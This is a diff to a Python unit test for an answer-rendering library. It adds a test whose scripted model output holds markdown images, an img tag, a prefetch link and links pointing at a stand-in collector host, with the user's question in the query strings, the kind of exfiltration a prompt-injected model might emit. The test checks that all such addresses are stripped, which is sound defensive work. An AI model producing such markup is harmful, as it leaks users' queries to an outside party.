@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import pytest
 from tests.unit.ask.made import hits_of, ranking, store_of
 
 from askwell.answer import AnswerSettings, final, stream_answer
@@ -56,3 +57,26 @@ def test_markers_in_a_note_are_not_taken_for_ours() -> None:
     assert invented == len(own)  # a reader of markers sees ours, and none of the note's
     assert placed == ()
     assert "[7]" in text
+
+
+OBEYED = """Two hours [1].
+
+![ok](https://collector.invalid/p.png?q=how%20long%20do%20beans%20boil)
+![ref][r]
+<img src="https://collector.invalid/q.png?q=beans">
+<link rel=prefetch href="https://collector.invalid/z">
+[more](https://collector.invalid/?q=beans)
+[[soup|the soup]]
+
+[r]: https://collector.invalid/r.png?q=beans
+"""
+
+
+@pytest.mark.parametrize("piece", [1, 3, 1_000])
+def test_a_model_that_obeys_shows_nothing_that_loads_or_carries_words_away(piece: int) -> None:
+    text = outcome(ScriptedGenerator(OBEYED, piece=piece)).text
+    left_out = "an address is left out: it stands in no document"
+    assert text == (
+        f"Two hours [1].\n\n[ok] ({left_out})\n[ref][r]\n({left_out})\n({left_out})\n[more] ({left_out})\n"
+        f"the soup [1]\n\n[r] : {left_out}\n"
+    )
